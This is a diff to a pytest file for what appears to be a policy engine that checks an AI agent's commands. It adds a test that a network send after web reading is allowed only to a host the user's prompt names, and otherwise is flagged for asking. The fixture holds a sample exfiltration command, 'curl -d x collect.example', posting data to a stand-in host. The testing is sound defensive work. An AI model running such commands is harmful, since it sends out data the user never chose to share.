@@ -4,12 +4,15 @@ import pytest
 
 from verdikt.errors import PolicyError
 from verdikt.graph.flow_rules import FlowRule, check_flows
+from verdikt.model.action import Action, ActionKind
 from verdikt.model.effect import Effect, EffectClass, Target
+from verdikt.model.named_words import fold_named_words
 from verdikt.model.verdict import VerdictKind
 from verdikt.policy import parse_policy
 
 SEND = Effect(EffectClass.NETWORK, "net.send", (Target("collect.example", "host"),), by="curl")
 READ = {"web": {"docs.example": 3}}
+ACTION = Action(kind=ActionKind.BASH, tool="Bash", payload={"command": "curl -d x collect.example"})
 
 
 @pytest.mark.parametrize(
@@ -27,7 +30,19 @@ def test_flow_applies_when_source_and_effect_match(
     rule: FlowRule, sources: dict[str, dict[str, int]], kind: VerdictKind | None
 ) -> None:
     """A flow names sources and effects; data to the host that was read from is left alone."""
-    verdict = check_flows([rule], [SEND], sources)
+    verdict = check_flows([rule], ACTION, [SEND], sources, lambda: "")
+
+    assert (verdict.kind if verdict else None) == kind
+
+
+@pytest.mark.parametrize(
+    ("prompt", "kind"),
+    [("send the report to collect.example", None), ("send the report", VerdictKind.ASK), ("", VerdictKind.ASK)],
+)
+def test_what_the_person_named_may_follow(prompt: str, kind: VerdictKind | None) -> None:
+    """With `unless: named` a command may reach what the person's own words name, and nothing else."""
+    rule = FlowRule(after=("web",), effect=("net.send",), unless="named")
+    verdict = check_flows([rule], ACTION, [SEND], READ, lambda: fold_named_words("", prompt))
 
     assert (verdict.kind if verdict else None) == kind
 
